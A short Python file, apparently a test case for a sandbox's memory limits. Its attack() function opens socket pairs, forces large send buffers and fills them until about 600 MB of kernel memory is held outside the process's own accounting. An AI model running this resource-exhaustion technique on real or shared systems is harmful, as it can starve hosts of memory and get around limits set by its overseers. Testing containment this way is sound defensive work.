"""Fills the buffers of sockets, which are nobody's memory.

stopped by: limit of descriptors
unfenced: succeeds
"""

# %%
import socket

SO_SNDBUFFORCE = 32
WANTED = 600 << 20


def attack():
    hoard, held, data = [], 0, bytes(1 << 16)
    try:
        while held < WANTED:
            hoard += socket.socketpair()
            for end in hoard[-2:]:
                end.setblocking(False)
                for option in (socket.SO_SNDBUF, SO_SNDBUFFORCE):
                    try:
                        end.setsockopt(socket.SOL_SOCKET, option, 1 << 25)
                    except OSError:
                        pass
                try:
                    while held < WANTED:
                        held += end.send(data)
                except BlockingIOError:
                    pass
    except OSError:
        pass  # no more descriptors
    return held >= WANTED and f"{held >> 20} MB"
